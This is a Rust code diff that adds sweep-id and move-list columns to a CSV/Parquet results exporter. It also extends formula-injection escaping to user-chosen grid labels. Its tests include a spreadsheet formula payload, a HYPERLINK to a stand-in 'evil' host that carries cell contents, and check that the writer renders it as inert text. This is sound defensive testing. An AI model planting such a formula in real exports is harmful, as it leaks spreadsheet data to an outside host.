@@ -11,13 +11,15 @@ use arrow_array::{ArrayRef, RecordBatch};
 use arrow_schema::{DataType, Field, Schema};
 use parquet::arrow::ArrowWriter;
 use serde::Serialize;
-use sweep::{csv, ResultRow};
+use sweep::{csv, ConfigEntry, MovesKind, ResultRow, Sweep};
 
 use crate::error::{Error, Result};
 
 /// The columns, in order, as every format names them.
-pub const COLUMNS: [&str; 18] = [
+pub const COLUMNS: [&str; 20] = [
+    "sweep",
     "rule",
+    "moves",
     "dims",
     "n",
     "shape",
@@ -40,8 +42,15 @@ pub const COLUMNS: [&str; 18] = [
 /// One task's result.
 #[derive(Debug, Clone, PartialEq, Eq, Serialize)]
 pub struct Record {
-    /// The move rule's label (`3,2`, or an explicit list).
+    /// The id of the sweep exported.
+    pub sweep: String,
+    /// The move set's name: a rule `3,2`, a grid's label, or an unlabelled
+    /// explicit list.
     pub rule: String,
+    /// The move list (`3,2`, or `3,2,0 -3,2,0 ..`), on the first record of
+    /// each configuration only ([`Recorder`]): a long list is written once,
+    /// not in every row.
+    pub moves: Option<String>,
     pub dims: u32,
     /// N of a regular N^D board; None for other shapes.
     pub n: Option<u32>,
@@ -71,14 +80,45 @@ pub struct Record {
     pub sweep_state: String,
 }
 
+/// Turns one sweep's result rows, in export order (by configuration),
+/// into records: each carries the sweep's id and state, and the first of
+/// each configuration its move list.
+pub struct Recorder {
+    sweep: String,
+    state: String,
+    /// Each configuration's move list, by index.
+    moves: Vec<String>,
+    /// The configuration of the last record.
+    last: Option<u32>,
+}
+
+impl Recorder {
+    /// A recorder for `sweep` (its id `sweep_id`), exported while it is `state`.
+    pub fn new(sweep: &Sweep, sweep_id: &str, state: &str) -> Recorder {
+        let moves = sweep.configurations().iter().map(ConfigEntry::moves_list).collect();
+        Recorder { sweep: sweep_id.to_string(), state: state.to_string(), moves, last: None }
+    }
+
+    /// The record of the next row.
+    pub fn record(&mut self, r: ResultRow) -> Record {
+        let first = self.last != Some(r.config);
+        self.last = Some(r.config);
+        let moves = if first { self.moves.get(r.config as usize).cloned() } else { None };
+        Record::new(r, &self.sweep, &self.state, moves)
+    }
+}
+
 impl Record {
-    /// The record of a stored row, exported while the sweep is `state`.
-    pub fn new(r: ResultRow, state: &str) -> Record {
+    /// The record of a stored row of sweep `sweep`, exported while it is
+    /// `state`, with the move list where it is the configuration's first.
+    fn new(r: ResultRow, sweep: &str, state: &str, moves: Option<String>) -> Record {
         let shape: Vec<u32> = r.shape.split('x').filter_map(|s| s.parse().ok()).collect();
         let n = shape.first().copied().filter(|&n| shape.iter().all(|&s| s == n));
         let outcome = r.outcome.map_or("", tour::Outcome::name).to_string();
         Record {
+            sweep: sweep.to_string(),
             rule: r.moves,
+            moves,
             dims: r.dims,
             n,
             shape,
@@ -109,9 +149,10 @@ fn list(values: &[u32]) -> String {
 /// Writes CSV: a header, then a line per record. Text a user or peer
 /// chose (a worker's name, and the method, outcome and state columns
 /// beside it) goes through [`csv::formula_safe`], so a spreadsheet opening
-/// the file runs no formula; `rule` is left as is: digits, commas, spaces
-/// and minus signs only (an explicit move list may begin with `-2,1`),
-/// nothing a spreadsheet could run.
+/// the file runs no formula, and so does `rule` where it is a grid's label;
+/// a rule or move list is left as is: digits, commas, spaces and minus signs
+/// only (an explicit move list may begin with `-2,1`), nothing a spreadsheet
+/// could run.
 pub struct CsvWriter;
 
 impl CsvWriter {
@@ -124,8 +165,15 @@ impl CsvWriter {
             (r.dims.to_string(), r.n.map_or_else(String::new, |n| n.to_string()), list(&r.shape), list(&r.start));
         let (attempts, visited, micros) = (r.attempts.to_string(), r.visited.to_string(), r.micros.to_string());
         let text = csv::formula_safe;
+        let rule = match MovesKind::of(&r.rule) {
+            MovesKind::Named => text(&r.rule).into_owned(),
+            _ => r.rule.clone(),
+        };
+        let sweep = text(&r.sweep);
         let fields = [
-            r.rule.as_str(),
+            sweep.as_ref(),
+            rule.as_str(),
+            r.moves.as_deref().unwrap_or(""),
             &dims,
             &n,
             &shape,
@@ -174,7 +222,9 @@ impl<W: Write + Send> ParquetWriter<W> {
             Field::new(name, DataType::List(Arc::new(Field::new_list_field(DataType::UInt32, true))), false)
         };
         let schema = Arc::new(Schema::new(vec![
+            Field::new("sweep", DataType::Utf8, false),
             Field::new("rule", DataType::Utf8, false),
+            Field::new("moves", DataType::Utf8, true),
             Field::new("dims", DataType::UInt32, false),
             Field::new("n", DataType::UInt32, true),
             list("shape"),
@@ -204,7 +254,9 @@ impl<W: Write + Send> ParquetWriter<W> {
 
     /// Writes `records` as one batch.
     pub fn write(&mut self, records: &[Record]) -> Result<()> {
+        let mut sweep = StringBuilder::new();
         let mut rule = StringBuilder::new();
+        let mut moves = StringBuilder::new();
         let mut dims = UInt32Builder::new();
         let mut n = UInt32Builder::new();
         let mut shape = ListBuilder::new(UInt32Builder::new());
@@ -220,7 +272,9 @@ impl<W: Write + Send> ParquetWriter<W> {
         // Where each result came from: its worker's provenance, its sweep.
         let mut origin: [StringBuilder; 5] = std::array::from_fn(|_| StringBuilder::new());
         for r in records {
+            sweep.append_value(&r.sweep);
             rule.append_value(&r.rule);
+            moves.append_option(r.moves.as_deref());
             dims.append_value(r.dims);
             n.append_option(r.n);
             shape.values().append_slice(&r.shape);
@@ -246,7 +300,9 @@ impl<W: Write + Send> ParquetWriter<W> {
             }
         }
         let mut columns: Vec<ArrayRef> = vec![
+            Arc::new(sweep.finish()),
             Arc::new(rule.finish()),
+            Arc::new(moves.finish()),
             Arc::new(dims.finish()),
             Arc::new(n.finish()),
             Arc::new(shape.finish()),
@@ -278,7 +334,9 @@ mod tests {
 
     fn record(rule: &str, worker: &str) -> Record {
         Record {
+            sweep: "0123456789abcdef".into(),
             rule: rule.into(),
+            moves: Some(rule.into()),
             dims: 2,
             n: Some(5),
             shape: vec![5, 5],
@@ -310,7 +368,7 @@ mod tests {
         let line = csv_line(&record("2,1", "=HYPERLINK(\"http://evil/\"&A1,\"x\")"));
         assert_eq!(
             line,
-            "\"2,1\",2,5,\"[5,5]\",w,\"[0,3]\",true,tour,1,25,7,\"'=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"x\"\")\",\
+            "0123456789abcdef,\"2,1\",\"2,1\",2,5,\"[5,5]\",w,\"[0,3]\",true,tour,1,25,7,\"'=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"x\"\")\",\
              0.1.0 (abc123),node-1,Some CPU,sse4.1 ssse3,0123456789abcdef,done\n"
         );
         // A worker reports its own host and CPU: guarded the same way.
@@ -323,6 +381,47 @@ mod tests {
     #[test]
     fn a_move_list_starting_with_a_minus_is_kept() {
         let line = csv_line(&record("-2,1 -1,2 1,2 2,1", "w"));
-        assert!(line.starts_with("\"-2,1 -1,2 1,2 2,1\",2,"), "{line}");
+        assert!(line.starts_with("0123456789abcdef,\"-2,1 -1,2 1,2 2,1\",\"-2,1 -1,2 1,2 2,1\",2,"), "{line}");
+    }
+
+    /// A grid's label is text its spec's author chose: a formula there is
+    /// written as text too.
+    #[test]
+    fn a_grid_label_that_is_a_formula_is_written_as_text() {
+        let r = Record { moves: None, ..record("=1+1", "w") };
+        assert!(csv_line(&r).starts_with("0123456789abcdef,'=1+1,,2,"), "{}", csv_line(&r));
+    }
+
+    /// The move list goes in the first record of each configuration only.
+    #[test]
+    fn the_move_list_is_written_once_per_configuration() {
+        let spec = "name = \"t\"\nseed = 1\nstarts = 2\nmethods = [\"w\"]\n[[grid]]\n\
+                    moves = [[2, 1], [1, 2], [-1, -2], [-2, -1]]\nlabel = \"mine\"\ndims = [2]\nn = [5, 6]\n";
+        let sweep = Sweep::parse(spec).unwrap();
+        let mut recorder = Recorder::new(&sweep, "abc", "done");
+        let row = |config: u32| ResultRow {
+            config,
+            moves: "mine".into(),
+            dims: 2,
+            shape: "5x5".into(),
+            method: "w".into(),
+            start: vec![0, 0],
+            start_index: 0,
+            success: true,
+            outcome: None,
+            attempts: 1,
+            visited: 25,
+            micros: 1,
+            worker: "w".into(),
+            worker_version: String::new(),
+            worker_host: String::new(),
+            worker_cpu: String::new(),
+            worker_features: String::new(),
+            computed_by: "abc".into(),
+        };
+        let records: Vec<Record> = [0, 0, 1, 1].into_iter().map(|c| recorder.record(row(c))).collect();
+        let moves: Vec<Option<&str>> = records.iter().map(|r| r.moves.as_deref()).collect();
+        assert_eq!(moves, [Some("2,1 1,2 -1,-2 -2,-1"), None, Some("2,1 1,2 -1,-2 -2,-1"), None]);
+        assert!(records.iter().all(|r| r.sweep == "abc" && r.rule == "mine"));
     }
 }
